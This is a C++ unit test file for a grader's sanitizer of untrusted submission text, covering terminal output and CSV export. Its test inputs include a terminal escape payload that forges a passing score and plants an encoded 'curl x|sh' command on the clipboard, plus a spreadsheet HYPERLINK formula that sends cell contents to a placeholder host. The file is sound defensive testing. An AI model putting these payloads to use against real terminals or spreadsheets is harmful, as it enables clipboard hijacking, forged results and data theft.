// src/common/untrusted_text: the one fence for text a hand-in decides.
#include <catch2/catch.hpp>

#include "common/untrusted_text.hpp"

using namespace perflab;

TEST_CASE("a hand-in's text shows its control characters and never acts on a terminal", "[grader][untrusted-text]") {
    // A window title, OSC 52 (the clipboard), an erased line and a forged verdict.
    const std::string attack = "x\x1b]0;pwned\x07\x1b]52;c;Y3VybCB4fHNo\x07\r\x1b[2Kok, 100.0 points\n\x9b" "31m";
    const std::string line = visible_line(attack);
    CHECK(line == "x\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCB4fHNo\\x07\\r\\x1b[2Kok, 100.0 points\\n\xef\xbf\xbd" "31m");
    CHECK(line.find_first_of("\x1b\x07\r\n") == std::string::npos);
    // A C1 control written as UTF-8, DEL and a right-to-left override show too.
    CHECK(visible_line("a\xc2\x9b" "b\x7f" "c\xe2\x80\xae" "d") == "a\\x9bb\\x7fc\\u202ed");
    // A body keeps its lines and tabs, nothing else.
    CHECK(visible_text("line 1\n\tline 2\x1b[8m") == "line 1\n\tline 2\\x1b[8m");
    // Honest text passes as it is, and a second pass changes nothing.
    const std::string honest = "rotate(): dimension 96: 1 wrong pixel at (3, 4) – ünïcode";
    CHECK(visible_line(honest) == honest);
    CHECK(visible_line(line) == line);
}

TEST_CASE("a CSV cell a spreadsheet would evaluate is text", "[grader][untrusted-text]") {
    CHECK(csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"click\")") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
    for (const std::string formula : {"+HYPERLINK(1)", "-1+1", "@SUM(A1)", "  =IMAGE(1)", "\t=1", "\r=1"}) {
        INFO(formula);
        const std::string cell = csv_cell(formula);
        // The first character a spreadsheet looks at (after spaces) is never a formula's sign.
        const auto first = cell.find_first_not_of(" \"");
        CHECK(std::string("=+-@").find(cell[first]) == std::string::npos);
    }
    CHECK(csv_cell("kernels.c:7: error: x") == "kernels.c:7: error: x");
    CHECK(csv_cell("a, b") == "\"a, b\"");
    CHECK(csv_cell("two\nlines") == "two\\nlines");
}
